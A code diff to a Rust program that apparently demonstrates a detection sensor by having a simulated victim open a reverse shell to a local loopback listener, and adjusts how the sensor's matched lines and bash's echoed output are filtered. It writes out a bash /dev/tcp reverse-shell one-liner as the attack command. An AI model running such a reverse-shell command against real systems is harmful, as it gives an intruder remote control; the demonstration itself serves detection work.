@@ -31,13 +31,15 @@ pub(crate) fn run() -> Result<()> {
     say("starting the sensor");
     let sensor = Sensor::start(&path)?;
     let seen = RefCell::new(BTreeSet::new());
-    let note = |line: &Line| {
-        seen.borrow_mut().insert(line.id().to_owned());
-        show(line);
-    };
-
     let listener = TcpListener::bind((Ipv4Addr::LOCALHOST, 0)).context("no port on loopback")?;
     let port = listener.local_addr()?.port();
+    // A real intruder's shell, if there is one, is not what is shown here.
+    let note = |line: &Line| {
+        if line.has_port(port) {
+            seen.borrow_mut().insert(line.id().to_owned());
+            show(line);
+        }
+    };
     let attack = format!("bash -i >& /dev/tcp/127.0.0.1/{port} 0>&1");
     say(&format!("the victim runs: {attack}"));
     let mut victim = Victim(
@@ -161,9 +163,9 @@ impl Peer {
         let mut text = Vec::new();
         loop {
             let answer = String::from_utf8_lossy(&text);
-            // An interactive bash echoes nothing here, but its prompt may show the command.
+            // An interactive bash echoes the command after its prompt.
             let mut lines = answer.split_inclusive('\n').filter(|line| line.ends_with('\n'));
-            if let Some(line) = lines.find(|line| line.contains(expected) && !line.contains(command)) {
+            if let Some(line) = lines.find(|line| line.contains(expected) && !line.trim_end().ends_with(command)) {
                 return Ok(printable(line.trim()));
             }
             ensure!(
